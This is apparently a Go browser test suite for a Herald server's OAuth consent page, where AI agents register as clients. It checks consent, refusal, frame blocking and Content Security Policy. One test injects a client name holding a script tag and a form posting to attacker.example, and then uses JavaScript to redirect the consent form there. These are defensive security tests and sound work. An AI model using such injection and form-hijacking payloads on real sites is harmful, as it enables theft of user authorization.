// Copyright The Herald Authors.
// SPDX-License-Identifier: Apache-2.0

package browser

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"time"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
	"k8s.io/client-go/tools/clientcmd"
	"k8s.io/utils/clock"

	configv1alpha1 "github.com/herald-social/herald/api/config/v1alpha1"
	"github.com/herald-social/herald/apiserver/kube"
	"github.com/herald-social/herald/apiserver/web/session"
	"github.com/herald-social/herald/apiserver/web/signin"
	"github.com/herald-social/herald/hack/local/processes"
	"github.com/herald-social/herald/test/browser/chrome"
	"github.com/herald-social/herald/test/browser/web"
)

// An agent's client here is no more than an address to register and one to come back to; test/agents has real ones.
var _ = Describe("An agent", Ordered, func() {
	const cursor = "cursor://anysphere.cursor-mcp/oauth/callback"

	var page *chrome.Page
	var site web.Site

	BeforeAll(func() {
		var err error
		page, err = browser.NewPage(chrome.Options{})
		must(err)
		DeferCleanup(page.Close)
		site = web.Site{Page: page, URL: herald().Site()}
		must(site.SignIn(anotherLink()))
	})

	AfterEach(func() {
		if CurrentSpecReport().Failed() {
			keep(page)
		}
	})

	// consent is where the agent sends a person.
	consent := func(name, redirect string) string {
		GinkgoHelper()
		body, err := json.Marshal(map[string]any{"client_name": name, "redirect_uris": []string{redirect}, "token_endpoint_auth_method": "none"})
		must(err)
		response, err := http.Post(herald().Site()+"/oauth/register", "application/json", strings.NewReader(string(body))) //nolint:noctx // the limit is the spec's
		must(err)
		defer response.Body.Close()
		Expect(response).To(HaveHTTPStatus(http.StatusCreated))
		var client struct {
			ID string `json:"client_id"`
		}
		must(json.NewDecoder(response.Body).Decode(&client))
		return herald().Site() + "/oauth/authorize?" + url.Values{
			"client_id": {client.ID}, "redirect_uri": {redirect}, "response_type": {"code"}, "state": {"s-1"}, "scope": {"read draft publish"},
			"code_challenge": {"E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM"}, "code_challenge_method": {"S256"}, "resource": {herald().Site() + "/mcp"},
		}.Encode()
	}

	// loopback is a client that listens on this machine.
	loopback := func() (redirect string, answers *[]url.Values) {
		answers = &[]url.Values{}
		client := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			*answers = append(*answers, r.URL.Query())
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			write(w, `<!doctype html><html lang="en"><title>Back</title><link rel="icon" href="data:,"><h1>Back</h1>`)
		}))
		DeferCleanup(client.Close)
		return client.URL + "/callback", answers
	}

	It("asks for consent on a page that is fit for everyone", func() {
		redirect, answers := loopback()
		must(page.OpenCold(consent("Fit for everyone", redirect)))
		expectLight(page)
		inEveryLook(page, "consent")
		must(page.WaitText("127.0.0.1"))
		must(web.ChooseLevel(page, web.MayRead))
		must(page.TabTo(page.Get("button", "Allow")))
		must(web.AllowAgent(page))
		must(page.Get("heading", "Back").Wait())
		Expect(*answers).To(HaveLen(1))
		Expect((*answers)[0]).To(And(HaveKey("code"), HaveKeyWithValue("state", []string{"s-1"}), HaveKeyWithValue("iss", []string{herald().Site()})))
		Expect(page.Problems()).To(BeEmpty(), "the policy lets the answer through")
	})

	It("is told when a person refuses", func() {
		redirect, answers := loopback()
		must(page.Open(consent("Refused", redirect)))
		must(web.DenyAgent(page))
		Expect((*answers)[0]).To(And(HaveKeyWithValue("error", []string{"access_denied"}), Not(HaveKey("code"))))
	})

	It("is reached in an application of the person's machine", func() {
		must(page.Open(consent("An editor", cursor)))
		must(page.WaitText("cursor:"))
		must(page.Get("button", "Allow").Click())
		Eventually(page.Opened).Should(ContainElement(And(HavePrefix(cursor+"?"), ContainSubstring("code="), ContainSubstring("state=s-1"))))
		for _, problem := range page.Forget() {
			Expect(problem).NotTo(ContainSubstring("Content Security Policy"))
		}
	})

	It("cannot show the page of consent in its own", func() {
		redirect, _ := loopback()
		inside := consent("In a frame", redirect)
		frame := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			write(w, `<!doctype html><html lang="en"><title>Frame</title><link rel="icon" href="data:,"><h1>Win</h1><iframe title="win" src="`+
				strings.ReplaceAll(inside, "&", "&amp;")+`"></iframe>`)
		}))
		DeferCleanup(frame.Close)
		must(page.Open(frame.URL))
		Eventually(page.Problems).Should(ContainElement(ContainSubstring("frame-ancestors 'none'")))
		Expect(page.Get("button", "Allow").Count()).To(BeZero())
		page.Forget()
	})

	It("cannot have its own script or form on the page of consent", func() {
		redirect, _ := loopback()
		must(page.Open(consent(`<script>document.title="no"</script><form action="https://attacker.example"><button>Allow</button></form>`, redirect)))
		Expect(page.Get("button", "Allow").Count()).To(Equal(1), "a name is text")
		Expect(page.Problems()).To(BeEmpty())
		_, err := chrome.Eval[any](page, `(() => { const form = document.querySelector("form[action='/oauth/authorize']"); form.action = "https://attacker.example/"; form.submit(); })()`)
		must(err)
		Eventually(page.Problems).Should(ContainElement(And(ContainSubstring("form-action"), ContainSubstring("attacker.example"))))
		page.Forget()
	})

	It("is listed with what it may, and ended there", func() {
		must(page.Open(herald().Site()))
		must(site.Agents())
		inEveryLook(page, "agents")
		must(page.OpenCold(currentURL(page)))
		expectLight(page)
		must(page.WaitText("An editor"))
		must(site.RevokeAgent("An editor"))
		Expect(page.Problems()).To(BeEmpty())
		Expect(page.GetSaying("listitem", "An editor").Get("button", "Revoke").Count()).To(BeZero())
		inEveryLook(page, "agents-ended")
	})
})

// anotherLink is a link to sign in by, beside that of the run, which is good once.
func anotherLink() string {
	GinkgoHelper()
	config, err := clientcmd.BuildConfigFromFlags("", herald().Variable("KUBECONFIG"))
	must(err)
	secrets, err := kube.NewSecrets(config, "herald-test", processes.SystemNamespace)
	must(err)
	token, err := session.AddLink(context.Background(), secrets, configv1alpha1.DefaultSignInSecret, clock.RealClock{}, time.Hour)
	must(err)
	return herald().Site() + signin.LinkPath + token
}

func currentURL(page *chrome.Page) string {
	GinkgoHelper()
	url, err := page.URL()
	must(err)
	return url
}
